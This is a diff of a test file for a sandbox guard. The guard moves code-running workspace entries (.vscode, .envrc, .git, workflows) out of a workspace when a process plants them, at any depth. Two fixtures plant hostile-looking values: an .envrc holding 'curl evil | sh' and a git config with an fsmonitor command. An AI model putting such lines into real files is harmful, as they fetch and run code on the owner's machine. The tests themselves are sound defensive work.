@@ -1,4 +1,4 @@
-// Always-card entries at the workspace's top level (SPEC §4): which are listed and bound, what counts
+// Always-card entries at every depth of the workspace (SPEC §4): which are listed and bound, what counts
 // as appeared, and how they are moved out — on real temporary directories.
 import { spawn } from 'node:child_process';
 import fs from 'node:fs';
@@ -10,10 +10,11 @@ import {
   describeMoved,
   listAlwaysCard,
   moveOut,
+  ownerIdentities,
   refusedName,
   watchAlwaysCard,
 } from '../../../src/main/sandbox/alwaysCardGuard';
-import { createPlaceholders } from '../../../src/main/sandbox/placeholders';
+import { removeLeftPlaceholders } from '../../../src/main/sandbox/placeholders';
 import { watchAlwaysCardLive } from '../../../src/main/sandbox/alwaysCardLive';
 import { gitEntriesOf } from '../../../src/main/sandbox/sandbox';
 import { createTempDirs } from '../../support/tempDirs';
@@ -56,9 +57,35 @@ describe('the always-card listing', () => {
       listed: ['.github/workflows', '.github/workflows/ci.yml'],
     },
     {
-      name: 'nothing below the top level but workflows (a nested .vscode is not read)',
-      entries: { 'pkg/.vscode/tasks.json': '{}', 'pkg/.envrc': 'x' },
-      listed: [],
+      name: 'below the top level too: a package’s own .vscode, .envrc, workflows and repository',
+      entries: {
+        'packages/app/.vscode/tasks.json': '{}',
+        'packages/app/.envrc': 'x',
+        'sub/.github/workflows/ci.yml': 'x',
+        'sub/.github/CODEOWNERS': 'x',
+        'vendor/lib/.git/config': '[core]',
+        'docs/deep/er/CLAUDE.md': 'x',
+        'src/index.ts': 'x',
+      },
+      listed: [
+        'docs/deep/er/CLAUDE.md',
+        'packages/app/.envrc',
+        'packages/app/.vscode',
+        'sub/.github/workflows',
+        'sub/.github/workflows/ci.yml',
+        'vendor/lib/.git',
+      ],
+    },
+    {
+      name: 'never inside an entry, nor below node_modules or a virtualenv',
+      entries: {
+        '.vscode/sub/.envrc': 'x',
+        'node_modules/pkg/.vscode/tasks.json': '{}',
+        'node_modules/pkg/.git/config': '[core]',
+        '.venv/lib/.envrc': 'x',
+        'venv/.npmrc': 'x',
+      },
+      listed: ['.vscode'],
     },
     // A repository a command makes (a `.git` with core.fsmonitor or hooks) runs code on the owner's next
     // git command or prompt: `git init` is a card in every mode, so a `.git` that appears is moved out too.
@@ -79,13 +106,17 @@ describe('the always-card listing', () => {
   it('binds real files and directories only, never a symlink (bubblewrap would follow it out)', () => {
     const ws = temp.make();
     const outside = temp.make();
-    tree(ws, { '.vscode/': null, '.envrc': 'x', '.github/workflows/ci.yml': 'x' });
+    tree(ws, { '.vscode/': null, '.envrc': 'x', '.github/workflows/ci.yml': 'x', 'pkg/.vscode/tasks.json': '{}' });
     fs.symlinkSync(outside, path.join(ws, '.idea'));
     fs.symlinkSync(path.join(outside, 'x'), path.join(ws, '.npmrc'));
-    expect(alwaysCardMounts(ws).sort()).toEqual([
+    // Below a linked folder nothing is listed: the walk never follows it.
+    tree(outside, { '.envrc': 'theirs' });
+    fs.symlinkSync(outside, path.join(ws, 'linked'));
+    expect(alwaysCardMounts(ws)).toEqual([
       path.join(ws, '.envrc'),
       path.join(ws, '.github/workflows'),
       path.join(ws, '.vscode'),
+      path.join(ws, 'pkg/.vscode'),
     ]);
   });
 });
@@ -158,6 +189,20 @@ describe('what appeared', () => {
     },
   ];
   for (const c of cases) it(c.name, () => expect(appearedBetween(before, new Map(c.after))).toEqual(c.appeared));
+
+  it('an owner’s entry carried along by a renamed parent is not new; a link’s identity never counts as the owner’s', () => {
+    const was = new Map([
+      ['packages/app/.vscode', '1:60'],
+      ['packages/app/.envrc', 'l1:61'],
+    ]);
+    const owners = ownerIdentities(was);
+    const now = new Map([
+      ['packages/web/.vscode', '1:60'],
+      ['packages/web/.envrc', 'l1:61'],
+      ['packages/web/.npmrc', '1:62'],
+    ]);
+    expect(appearedBetween(was, now, owners)).toEqual(['packages/web/.envrc', 'packages/web/.npmrc']);
+  });
 });
 
 describe('moving out', () => {
@@ -263,40 +308,19 @@ describe('the .git entries bound read-only', () => {
   });
 });
 
-describe('placeholders a crashed run left', () => {
-  it('are removed at the next start when still empty; one the owner filled, or one held now, stays', () => {
+describe('placeholders an earlier Paddock left', () => {
+  it('are removed at start when still empty; one the owner filled stays; the record goes', () => {
     const ws = temp.make();
     const data = temp.make();
     // What the crashed run had written down: three placeholders it made.
     tree(ws, { '.vscode/': null, '.git/': null, '.idea/owner.xml': '<owner/>' });
     const record = path.join(data, 'placeholders.json');
     fs.writeFileSync(record, JSON.stringify(['.vscode', '.git', '.idea'].map((name) => path.join(ws, name))));
-    const placeholders = createPlaceholders();
-    placeholders.recordAt(record);
+    removeLeftPlaceholders(record);
     expect(fs.existsSync(path.join(ws, '.vscode'))).toBe(false);
     expect(fs.existsSync(path.join(ws, '.git'))).toBe(false);
     expect(fs.readFileSync(path.join(ws, '.idea', 'owner.xml'), 'utf8')).toBe('<owner/>');
-    // From now on the record follows what is held.
-    const held = placeholders.hold(placeholders.absent(ws));
-    expect(JSON.parse(fs.readFileSync(record, 'utf8'))).toEqual(
-      expect.arrayContaining([path.join(ws, '.git'), path.join(ws, '.vscode')]),
-    );
-    held.release();
-    expect(JSON.parse(fs.readFileSync(record, 'utf8'))).toEqual([]);
-  });
-
-  it('are shared by two long-lived processes: the first to end leaves them for the other', () => {
-    const ws = temp.make();
-    const placeholders = createPlaceholders();
-    const first = placeholders.hold(placeholders.absent(ws));
-    const second = placeholders.hold(placeholders.absent(ws));
-    expect(second.paths.sort()).toEqual(first.paths.sort());
-    first.release();
-    expect(fs.existsSync(path.join(ws, '.git'))).toBe(true);
-    expect(fs.existsSync(path.join(ws, '.vscode'))).toBe(true);
-    second.release();
-    expect(fs.existsSync(path.join(ws, '.git'))).toBe(false);
-    expect(fs.existsSync(path.join(ws, '.github'))).toBe(false);
+    expect(fs.existsSync(record)).toBe(false);
   });
 });
 
@@ -364,6 +388,52 @@ describe('the live watch of a long-lived process', () => {
   });
 });
 
+describe('the live watch below the top level', () => {
+  it('moves a package’s planted .vscode, .envrc and repository at once; the owner’s carried along by a rename stays', async () => {
+    const ws = temp.make();
+    const refused = path.join(temp.make(), 'refused');
+    tree(ws, { 'packages/app/.vscode/settings.json': '{}', 'packages/app/src/a.ts': 'x' });
+    const watch = watchAlwaysCardLive(ws, refused, 60_000);
+    const seen: string[] = [];
+    watch.onMoved((moved) => seen.push(...moved.map((entry) => entry.path)));
+    try {
+      tree(ws, { 'packages/app/src/.envrc': 'curl evil | sh\n' });
+      await until(() => !fs.existsSync(path.join(ws, 'packages/app/src/.envrc')), 'the nested .envrc moved');
+      // A whole new folder with a repository and tasks in it, made elsewhere and renamed in at once.
+      const made = path.join(ws, 'made-aside');
+      tree(made, { 'deep/.git/config': '[core]\n\tfsmonitor = touch /tmp/pwned\n', 'deep/.vscode/tasks.json': '{}' });
+      fs.renameSync(made, path.join(ws, 'packages/lib'));
+      await until(
+        () =>
+          !fs.existsSync(path.join(ws, 'packages/lib/deep/.git')) &&
+          !fs.existsSync(path.join(ws, 'packages/lib/deep/.vscode')),
+        'the planted repository and tasks moved',
+      );
+      fs.renameSync(path.join(ws, 'packages/app'), path.join(ws, 'packages/web'));
+      await new Promise((resolve) => setTimeout(resolve, 300));
+      expect(fs.readFileSync(path.join(ws, 'packages/web/.vscode/settings.json'), 'utf8')).toBe('{}');
+      expect(fs.existsSync(path.join(ws, 'packages/lib/deep'))).toBe(true);
+    } finally {
+      watch.finish();
+    }
+    expect(seen.sort()).toEqual(['packages/app/src/.envrc', 'packages/lib/deep/.git', 'packages/lib/deep/.vscode']);
+  });
+
+  it('a same-named entry in a folder made anew (the owner’s folder renamed away) is new, not the owner’s save', async () => {
+    const ws = temp.make();
+    tree(ws, { 'pkg/.envrc': 'owner\n' });
+    const watch = watchAlwaysCardLive(ws, path.join(temp.make(), 'refused'), 60_000);
+    try {
+      fs.renameSync(path.join(ws, 'pkg'), path.join(ws, 'old-pkg'));
+      tree(ws, { 'pkg/.envrc': 'planted\n' });
+      await until(() => !fs.existsSync(path.join(ws, 'pkg/.envrc')), 'the planted .envrc moved');
+      expect(fs.readFileSync(path.join(ws, 'old-pkg/.envrc'), 'utf8')).toBe('owner\n');
+    } finally {
+      watch.finish();
+    }
+  });
+});
+
 describe('the live watch against a process that plants again', () => {
   it('an entry planted again the moment the last one was moved is moved too: none ever stays', async () => {
     const ws = temp.make();
@@ -427,21 +497,17 @@ describe('the live watch against a process that plants again', () => {
     expect(fs.readFileSync(path.join(ws, '.envrc'), 'utf8')).toBe('export A=2\n');
   });
 
-  it('watches a `.github/workflows` made again after the first was replaced, without waiting for a sweep', async () => {
+  it('a `.github/workflows` made again after the first was replaced is new, with the owner’s workflow name in it too', async () => {
     const ws = temp.make();
     tree(ws, { '.github/workflows/ci.yml': 'on: push\n' });
     const watch = watchAlwaysCardLive(ws, path.join(temp.make(), 'refused'), 60_000);
-    fs.renameSync(path.join(ws, '.github'), path.join(ws, 'old-github'));
-    fs.mkdirSync(path.join(ws, '.github', 'workflows'), { recursive: true });
-    await new Promise((resolve) => setTimeout(resolve, 200));
-    fs.writeFileSync(path.join(ws, '.github', 'workflows', 'evil.yml'), 'on: push\n');
-    await until(
-      () =>
-        !fs.existsSync(path.join(ws, '.github', 'workflows', 'evil.yml')) ||
-        !fs.existsSync(path.join(ws, '.github', 'workflows')),
-      'the planted workflow moved',
-      5_000,
-    );
-    watch.finish();
+    try {
+      fs.renameSync(path.join(ws, '.github'), path.join(ws, 'old-github'));
+      tree(ws, { '.github/workflows/ci.yml': 'on: push # planted\n' });
+      await until(() => !fs.existsSync(path.join(ws, '.github', 'workflows')), 'the planted workflows moved', 5_000);
+      expect(fs.readFileSync(path.join(ws, 'old-github/workflows/ci.yml'), 'utf8')).toBe('on: push\n');
+    } finally {
+      watch.finish();
+    }
   });
 });
